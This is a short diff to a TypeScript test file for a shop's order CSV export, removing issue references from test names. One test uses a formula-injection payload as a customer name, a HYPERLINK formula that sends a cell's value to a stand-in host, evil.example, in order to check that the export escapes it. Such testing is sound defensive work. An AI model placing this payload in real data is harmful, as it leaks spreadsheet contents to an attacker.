@@ -10,7 +10,7 @@ import type { Order } from '../../../shared/schemas/orders';
 import type { Product } from '../../../shared/schemas/products';
 import { shopClock } from '../../../shared/shop-clock';
 
-describe.each(BACKENDS)('order records export on %s (issue 17 §4)', (dialect) => {
+describe.each(BACKENDS)('order records export on %s', (dialect) => {
   const t = appPerSuite(dialect, { seed: true });
 
   it('gives the owner every order of the shop days as CSV, and nobody else', async () => {
@@ -69,7 +69,7 @@ describe.each(BACKENDS)('order records export on %s (issue 17 §4)', (dialect) =
     ).toBe(403);
   });
 
-  it('escapes a formula in a customer name (issue 38 §4)', async () => {
+  it('escapes a formula in a customer name', async () => {
     const products = await productsByName(t.app);
     const name = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
     const placed = await t.app.inject({
